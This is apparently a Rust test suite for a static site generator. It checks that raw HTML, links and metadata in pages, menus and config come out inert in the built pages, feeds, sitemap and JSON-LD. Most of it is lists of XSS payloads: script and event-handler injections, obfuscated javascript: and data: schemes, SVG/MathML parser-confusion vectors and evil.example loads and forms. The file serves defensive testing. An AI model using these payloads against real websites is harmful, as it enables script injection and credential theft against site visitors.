//! Texts that somebody has prepared: programs hidden in HTML, in links, in titles. With
//! `raw_html` off nothing of it may be active in any output.

use proptest::prelude::*;
use serde_json::Value;

use crate::fixture::{Built, Site, site};
use crate::html::{active, attributes, decoded, pieces, text_of};

/// All that is active in the pages and, taken out of their envelopes, in the feeds.
fn active_anywhere(built: &Built) -> Vec<String> {
    let mut found = Vec::new();
    for (path, html) in built.ending(".html") {
        found.extend(active(html).into_iter().map(|what| format!("{path}: {what}")));
    }
    for (path, text) in built.ending("feed.json") {
        let feed: Value = serde_json::from_str(text).unwrap();
        for item in feed["items"].as_array().unwrap() {
            let html = item["content_html"].as_str().unwrap();
            found.extend(active(html).into_iter().map(|what| format!("{path}: {what}")));
        }
    }
    for (path, text) in built.ending("atom.xml").chain(built.ending("rss.xml")) {
        let feed = feed_rs::parser::parse(text.as_bytes()).unwrap();
        for entry in feed.entries {
            let html = entry.content.and_then(|content| content.body).unwrap_or_default();
            let summary = entry.summary.map(|summary| summary.content).unwrap_or_default();
            for html in [html, summary] {
                found.extend(active(&html).into_iter().map(|what| format!("{path}: {what}")));
            }
        }
    }
    found
}

/// A text as it stands between the quotes of a TOML string.
fn toml(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || c == ' ';
    text.chars()
        .map(|c| if plain(c) { c.to_string() } else { format!("\\U{:08X}", u32::from(c)) })
        .collect()
}

/// A text that Markdown shows as it is.
fn markdown(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_ascii_punctuation() { format!("\\{c}") } else { c.to_string() })
        .collect()
}

/// A site with a page for each text, all of them whole in the feeds.
fn pages(texts: &[String]) -> Site {
    let base = site("").config("feed_limit = 100000");
    texts.iter().enumerate().fold(base, |site, (number, text)| {
        let page = format!("+++\ntitle = \"A\"\ndate = 2026-01-01\n+++\nHello.\n\n{text}\n");
        site.with(&format!("content/p{number}.md"), page)
    })
}

/// Each text is made into a page, and nothing of it is active.
#[track_caller]
fn assert_inert(texts: &[String]) -> Built {
    let built = pages(texts).try_build();
    for (number, text) in texts.iter().enumerate() {
        assert!(built.has(&format!("p{number}/index.html")), "{text}");
    }
    let found = active_anywhere(&built);
    let page = |what: &String| {
        let number = what.strip_prefix('p')?.split('/').next()?.parse::<usize>().ok()?;
        Some(texts[number].clone())
    };
    let culprits: Vec<_> = found.iter().filter_map(page).collect();
    assert!(found.is_empty(), "{found:#?} {culprits:#?}");
    built
}

const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=\"alert(1)\">bold</b>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<a href=\"javascript:alert(1)\">link</a>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=\"x.swf\"></object><embed src=x>",
    "<div\nonclick=alert(1)\n>text</div>",
    "<details open ontoggle=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!DOCTYPE x [<!ENTITY e \"x\">]>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</article></main><h1>Another page</h1>",
    "</p><script>alert(1)</script><p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "<script\0>alert(1)</script>",
];

#[test]
fn m_01_raw_html_is_shown_as_text_and_counted() {
    let around = |html: &&str| {
        [
            (*html).to_owned(),
            format!("text {html} text"),
            format!("> {html}"),
            format!("* a\n* {html}\n"),
            format!("| a |\n|---|\n| {html} |\n"),
            format!("# {html}"),
            format!("[{html}](/)"),
            format!("a[^1]\n\n[^1]: {html}"),
            format!("{html}\n\n<!-- more -->\n\nrest"),
        ]
    };
    assert_inert(&HTML.iter().flat_map(around).collect::<Vec<_>>());
    let page = "+++\ntitle = \"A\"\n+++\nHello.\n\n<script>alert(1)</script>\n\na <b>c</b>\n";
    let built = site("").with("content/a.md", page).build();
    assert_eq!(built.codes(), ["raw-html"]);
    assert!(built.messages().contains("3 pieces of HTML shown as text"), "{}", built.messages());
    assert!(built.messages().contains("content/a.md:6:1"), "{}", built.messages());
    assert!(built.text("a/index.html").contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[test]
fn m_01_a_site_that_switches_raw_html_on_gets_it() {
    let page = "+++\ntitle = \"A\"\n+++\nHello.\n\n<div class=\"x\">raw</div>\n";
    let built = site("").config("[markdown]\nraw_html = true").with("content/a.md", page).build();
    assert!(built.text("a/index.html").contains("<div class=\"x\">raw</div>"));
}

#[test]
fn m_01_html_in_the_other_places_of_a_page_is_text() {
    for html in HTML {
        let value = toml(html);
        let page = format!(
            "+++\ntitle = \"{value}\"\ndescription = \"{value}\"\nsummary = \"{value}\"\n\
             tags = [\"{value}a\"]\nauthors = [\"{value}\"]\ndate = 2026-01-01\n+++\n\
             Hello {{{{ button(label=\"{}\", url=\"/\") }}}}\n",
            html.replace('"', "'")
        );
        let config = format!(
            "description = \"{value}\"\nauthor = \"{value}\"\n\
             menu = [{{ title = \"{value}\", url = \"/\" }}]\n\
             translations = {{ read_more = \"{value}\", not_found_title = \"{value}\" }}\n\
             extra = {{ footer = \"{value}\" }}\n\
             imprint = {{ law = \"uk-2022\", on_behalf_of = [], promoter = {{ \
             name = \"a{value}\", address = \"{value}a, {value}b\" }} }}"
        );
        let built = site("").config(&config).with("content/a.md", page).try_build();
        assert!(built.has("a/index.html"), "{}", built.messages());
        assert_eq!(active_anywhere(&built), Vec::<String>::new(), "{html}");
    }
}

#[test]
fn m_01_an_html_file_in_content_is_not_published_unless_switched_on() {
    let script = "<script>alert(1)</script>";
    let page = "+++\ntitle = \"A\"\n+++\nHello.\n";
    for name in ["evil.html", "evil.htm", "Evil.HTML", "evil.xhtml", "evil.xht", "evil.shtml"] {
        let base =
            || site("").with("content/a/index.md", page).with(&format!("content/a/{name}"), script);
        let built = base().try_build();
        assert_eq!(built.codes(), ["active-file"], "{name}");
        assert!(built.messages().contains(&format!("--> content/a/{name}")));
        assert!(built.artifacts.values().all(|bytes| bytes != script.as_bytes()), "{name}");
        let built = base().config("front_matter = \"lenient\"").build();
        assert_eq!(built.codes(), ["active-file"], "a warning: {name}");
        assert!(!built.has(&format!("a/{name}")));
        let built = base().config("[markdown]\nraw_html = true").build();
        assert!(built.has(&format!("a/{name}")));
    }
}

const SCHEMES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x73;cript:alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\tscript:alert(1)",
    "java\u{1}script:alert(1)",
    "&#1;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "&#x200b;javascript:alert(1)",
    "javascript\\:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://party.example/x",
    "view-source:https://party.example",
    "ms-word:ofe|u|https://evil.example",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
];

#[test]
fn m_02_links_with_dangerous_schemes_lose_their_address_and_keep_their_text() {
    let around = |url: &&str| {
        let pointed = url.replace(['<', '>'], "");
        [
            format!("[shown]({pointed})"),
            format!("[shown](<{pointed}>)"),
            format!("[shown](<{pointed}> \"title\")"),
            format!("[shown]\n\n[shown]: <{pointed}>"),
            format!("[shown][1]\n\n[1]: {pointed}"),
            format!("![shown](<{pointed}>)"),
            format!("![shown]\n\n[shown]: <{pointed}>"),
            format!("[![shown](/favicon.svg)](<{pointed}>)"),
            format!("<{pointed}> shown"),
            format!("a[^1]\n\n[^1]: [shown](<{pointed}>)"),
            format!("{{{{ button(label=\"shown\", url=\"{pointed}\") }}}}"),
            format!("{{{{ figure(alt=\"shown\", src=\"{pointed}\") }}}}"),
            format!("{{% quote(author=\"shown\", cite=\"{pointed}\") %}}x{{% end %}}"),
        ]
    };
    let texts: Vec<String> = SCHEMES.iter().flat_map(around).collect();
    let built = assert_inert(&texts);
    for (number, text) in texts.iter().enumerate() {
        let html = built.text(&format!("p{number}/index.html"));
        assert!(html.contains("shown"), "the text stays: {text}");
    }
    let page = "+++\ntitle = \"A\"\n+++\nA [link](javascript:alert(1)) here.\n";
    let built = site("").with("content/a.md", page).build();
    assert!(built.text("a/index.html").contains("<p>A link here.</p>"));
    assert_eq!(built.codes(), ["unsafe-link"]);
    assert!(built.messages().contains("--> content/a.md:4:3"), "{}", built.messages());
}

#[test]
fn m_02_front_matter_and_menus_lead_nowhere_dangerous() {
    for url in SCHEMES {
        let value = toml(&decoded(url));
        for key in [
            format!("image = \"{value}\"\nimage_alt = \"x\""),
            format!("enclosure = \"{value}\""),
            format!("aliases = [\"{value}\"]"),
            format!("path = \"{value}\""),
            format!("slug = \"{value}\""),
            format!("id = \"{value}\""),
        ] {
            let page = format!("+++\ntitle = \"A\"\ndate = 2026-01-01\n{key}\n+++\nHello.\n");
            let built = site("").with("content/a.md", page).try_build();
            let found = active_anywhere(&built);
            // A redirect page goes to its target; that is what it is for.
            let found: Vec<_> = found.iter().filter(|what| !what.ends_with("refresh")).collect();
            assert!(found.is_empty(), "{key}: {found:?}");
        }
        if url.contains('\\') {
            // Only Markdown takes the back slash away.
            continue;
        }
        let menu = format!("menu = [{{ title = \"M\", url = \"{value}\" }}]");
        let built = site("").config(&menu).try_build();
        assert_eq!(active_anywhere(&built), Vec::<String>::new(), "{menu}");
        assert_eq!(built.codes(), ["unsafe-menu-link"], "{menu}");
        assert!(built.messages().contains("--> site.toml:3:"), "{}", built.messages());
    }
    let built = site("").config("feed_hub = \"javascript:alert(1)\"").try_build();
    assert_eq!(built.codes(), ["not-a-web-address"]);
}

#[test]
fn m_02_harmless_schemes_keep_their_address() {
    let text = "[a](https://x.example) [b](mailto:a@x.example) [c](tel:+44) \
                [d](webcal://x.example/c.ics) <https://y.example> <a@y.example>\n";
    let built = site("").with("content/a.md", format!("+++\ntitle = \"A\"\n+++\n{text}")).build();
    let links = attributes(&pieces(built.text("a/index.html")), "a", "href");
    for url in [
        "https://x.example",
        "mailto:a@x.example",
        "tel:+44",
        "webcal://x.example/c.ics",
        "https://y.example",
        "mailto:a@y.example",
    ] {
        assert!(links.iter().any(|link| link == url), "{url}: {links:?}");
    }
    let switched = site("")
        .config("[markdown]\nlink_schemes = [\"xmpp\"]")
        .with("content/a.md", "+++\ntitle = \"A\"\n+++\n[a](xmpp:a@x.example)\n")
        .build();
    assert!(switched.text("a/index.html").contains("href=\"xmpp:a@x.example\""));
    for scheme in ["javascript", "JavaScript:", "data", "vbscript"] {
        let config = format!("[markdown]\nlink_schemes = [\"{scheme}\"]");
        assert_eq!(site("").config(&config).try_build().codes(), ["dangerous-scheme"]);
    }
}

/// Characters and pieces that mean something in one of the contexts.
fn payload() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("<"),
        Just(">"),
        Just("&"),
        Just("\""),
        Just("'"),
        Just("`"),
        Just("="),
        Just("</script>"),
        Just("<!--"),
        Just("-->"),
        Just("]]>"),
        Just("&lt;"),
        Just("&#x3c;"),
        Just("<script>"),
        Just("\" onx=\""),
        Just("' onx='"),
        Just("\\u003c"),
        Just("\u{2028}"),
        Just("{{ x }}"),
        Just("{%"),
        Just("</title>"),
        Just("\u{0}"),
        Just("\u{b}"),
        Just("\u{fffe}"),
        Just("a"),
        Just("é"),
        Just("\u{1F600}"),
        Just("/"),
        Just("%3C"),
        Just("\u{f8ff}"),
    ];
    proptest::collection::vec(piece, 1..12).prop_map(|pieces| format!("A{}z", pieces.concat()))
}

/// What a title becomes: one line.
fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// What XML can carry of a text.
fn xml(text: &str) -> String {
    let bad = |c: char| (c < ' ' && !"\t\n\r".contains(c)) || matches!(c, '\u{fffe}' | '\u{ffff}');
    one_line(text).chars().filter(|c| !bad(*c)).collect()
}

/// A site with one page that has the payload everywhere.
fn with_payload(payload: &str) -> Built {
    let value = toml(payload);
    let fence = payload.replace(['`', '\u{b}', '\u{2028}'], "").replace(char::is_whitespace, "");
    // A slug may have any letters but those that no path may have.
    let slug: String = payload.chars().filter(|c| !"\\/%\0\u{b}\u{2028}".contains(*c)).collect();
    let page = format!(
        "+++\ntitle = \"{value}\"\ndescription = \"{value}\"\ntags = [\"{value}\"]\n\
         authors = [\"{value}\"]\ndate = 2026-01-01\nimage = \"/p.png\"\nimage_alt = \"{value}\"\n\
         slug = \"{}\"\n+++\nHello.\n\n![{}](/p.png)\n\n```{fence}\ncode\n```\n",
        toml(&slug),
        markdown(&payload.replace('\u{0}', "")),
    );
    site("").with("static/p.png", "x").with("content/a.md", page).build()
}

fn page_of(built: &Built) -> &str {
    built.ending("/index.html").find(|(_, html)| html.contains("<article class=\"page")).unwrap().1
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn m_03_nothing_gets_out_of_html_text(payload in payload()) {
        let built = with_payload(&payload);
        prop_assert_eq!(active_anywhere(&built), Vec::<String>::new());
        let pieces = pieces(page_of(&built));
        prop_assert_eq!(text_of(&pieces, "h1").unwrap(), one_line(&payload));
        let title = format!("{} – The Party", one_line(&payload));
        prop_assert_eq!(text_of(&pieces, "title").unwrap(), title);
    }

    #[test]
    fn m_03_nothing_gets_out_of_an_attribute(payload in payload()) {
        let built = with_payload(&payload);
        let pieces = pieces(page_of(&built));
        let contents = attributes(&pieces, "meta", "content");
        prop_assert!(contents.contains(&one_line(&payload)), "{:?}", contents);
        let alts = attributes(&pieces, "img", "alt");
        prop_assert!(alts.contains(&one_line(&payload)), "{:?}", alts);
        // The one in Markdown comes back as Markdown reads it: without the private mark.
        let shown = payload.replace('\u{0}', "");
        let close = alts.iter().any(|alt| *alt == shown || *alt == shown.replace('\u{f8ff}', "\u{fffd}"));
        prop_assert!(close, "{:?} {:?}", alts, shown);
        let languages = attributes(&pieces, "code", "class");
        prop_assert!(languages.iter().all(|class| class.starts_with("language-")));
        prop_assert_eq!(languages.len(), 1);
    }

    #[test]
    fn m_03_nothing_gets_out_of_the_json_feed(payload in payload()) {
        let built = with_payload(&payload);
        let feed: Value = serde_json::from_str(built.text("feed.json")).unwrap();
        let item = &feed["items"][0];
        let expected = xml(&payload);
        prop_assert_eq!(item["title"].as_str(), Some(&*expected));
        prop_assert_eq!(item["authors"][0]["name"].as_str(), Some(&*expected));
        let url = item["url"].as_str().unwrap();
        prop_assert!(!url.contains(['<', '>', '"', ' ', '`']), "{}", url);
    }

    #[test]
    fn m_03_nothing_gets_out_of_rss_and_atom(payload in payload()) {
        let built = with_payload(&payload);
        for name in ["rss.xml", "atom.xml"] {
            let feed = feed_rs::parser::parse(built.text(name).as_bytes()).unwrap();
            let entry = &feed.entries[0];
            // feed-rs trims what it reads, and reads carriage returns as XML does.
            let read = |text: &str| text.trim().to_owned();
            prop_assert_eq!(read(&entry.title.as_ref().unwrap().content), xml(&payload));
            prop_assert_eq!(read(entry.authors[0].name.as_deref().unwrap_or("")), xml(&payload));
            prop_assert_eq!(read(&entry.categories[0].term), xml(&payload));
        }
    }

    #[test]
    fn m_03_nothing_gets_out_of_the_sitemap(payload in payload()) {
        let built = with_payload(&payload);
        let sitemap = built.text("sitemap.xml");
        for piece in pieces(sitemap) {
            if let crate::html::Piece::Open(name, _) | crate::html::Piece::Close(name) = piece {
                prop_assert!(["urlset", "url", "loc", "lastmod"].contains(&&*name), "{}", name);
            }
        }
        let bare = sitemap.replace("&amp;", "").replace("&#39;", "").replace("&#x27;", "");
        prop_assert!(!bare.contains('&'), "{}", bare);
        let page = attributes(&pieces(page_of(&built)), "link", "href")[0].clone();
        let locations: Vec<&str> =
            sitemap.split("<loc>").skip(1).filter_map(|rest| rest.split('<').next()).collect();
        prop_assert!(locations.iter().any(|loc| decoded(loc) == page), "{} {:?}", page, locations);
    }

    #[test]
    fn m_03_nothing_gets_out_of_json_ld(payload in payload()) {
        let built = with_payload(&payload);
        let script = text_of(&pieces(page_of(&built)), "script").unwrap();
        let object: Value = serde_json::from_str(&script).unwrap();
        prop_assert_eq!(object["headline"].as_str(), Some(&*one_line(&payload)));
        prop_assert_eq!(object["author"][0]["name"].as_str(), Some(&*one_line(&payload)));
    }
}

#[test]
fn m_04_payloads_in_svg_mathml_and_style_are_inert() {
    let payloads = [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example)}</style>",
        "<title><a title=\"</title><img src onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
        "<p id=\"a\"><b><p></b><script>alert(1)</script>",
        "<plaintext><script>alert(1)",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<a href=\"#\" onclick=alert(1) x=`<!--`>",
        "<img src=`x` onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
        "# Heading {#x onclick=alert(1) .brand}",
        "```\" onmouseover=\"alert(1)\ncode\n```",
        "~~~<script>alert(1)</script>\ncode\n~~~",
        "[a](/ \"' onclick=alert(1) x='\")",
        "[a](/\"onclick=alert(1)//)",
        "![a](/favicon.svg \"x\\\" onerror=alert(1)\")",
        "![\" onerror=alert(1) x=\"](/favicon.svg)",
        "[a\" onclick=\"x](/)",
        "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
        "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
        "<https://x.example/\"onclick=alert(1)>",
        "<a@x.example\"onclick=alert(1)>",
        "{{ button(label=\"<img src=x onerror=alert(1)>\", url=\"/\") }}",
        "{{ button(label='\" onclick=\"alert(1)', url='/\" onclick=\"alert(1)') }}",
        "{{ figure(alt='\" onerror=\"alert(1)', src='/favicon.svg') }}",
        "{% quote(author='<b>', cite='http://x\" onclick=\"alert(1)') %}<svg onload=alert(1)>{% end %}",
        "{% notice(title='<svg onload=alert(1)>') %}<script>x</script>{% end %}",
    ];
    assert_inert(&payloads.map(str::to_owned));
}

#[test]
fn m_05_the_error_page_of_a_hostile_site_is_inert() {
    let bad = "</title></script><script>alert(1)</script><!-- \u{2028}\u{2029} ]]>\" onx='";
    let config = format!(
        "base_url = \"https://party.example\"\ntitle = \"{0}\"\ndescription = \"{0}\"\n\
         author = \"{0}\"\n[extra]\nfooter = \"{0}\"\n[translations]\nnot_found_title = \"{0}\"\n\
         not_found_text = \"{0}\"\nback_home = \"{0}\"\nskip_to_content = \"{0}\"\nmenu = \"{0}\"\n\
         language_name = \"{0}\"\nbuilt_with = \"{0}\"\n[languages.cy]\ntitle = \"{0}\"\n",
        toml(bad)
    );
    let built = site("").with("site.toml", config).try_build();
    for page in ["404.html", "cy/404.html", "index.html"] {
        let html = built.text(page);
        assert_eq!(active(html), Vec::<String>::new(), "{page}");
        assert!(html.contains("&lt;script&gt;alert(1)"), "the text is shown: {page}");
        if let Some(script) = text_of(&pieces(html), "script") {
            assert!(!script.contains(['<', '\u{2028}', '\u{2029}']), "{script}");
            let object: Value = serde_json::from_str(&script).unwrap();
            assert_eq!(object["name"].as_str(), Some(bad));
        }
    }
    assert_eq!(active_anywhere(&built), Vec::<String>::new());
}

#[test]
fn the_mark_of_the_summary_cuts_no_quote_list_or_footnote_in_two() {
    for text in [
        "> quote\n>\n> <!-- more -->\n>\n> rest\n",
        "> quote <!-- more --> rest\n",
        "* item\n\n  <!-- more -->\n\n  rest\n",
        "[^a]: one\n\n    two\n\n    three <!-- more -->\n",
        "a[^a]\n\n[^a]: one\n\n    <!-- more -->\n",
        "# A <!-- more --> b\n",
        "{% notice() %}a <!-- more --> b{% end %}\n",
    ] {
        let page = format!("+++\ntitle = \"A\"\ndate = 2026-01-01\n+++\n{text}\n");
        let built = site("").with("content/a.md", page).build();
        let html = built.text("index.html");
        for tag in ["blockquote", "ul", "li", "section", "h2", "div", "p"] {
            let opened = html.matches(&format!("<{tag}>")).count()
                + html.matches(&format!("<{tag} ")).count();
            let closed = html.matches(&format!("</{tag}>")).count();
            assert_eq!(opened, closed, "{tag} in {text:?}:\n{html}");
        }
    }
    let page = "+++\ntitle = \"A\"\ndate = 2026-01-01\n+++\nOne <!-- more --> two\n\n## H\n";
    let built = site("").with("content/a.md", page).build();
    assert!(!built.text("index.html").contains("two"));
}
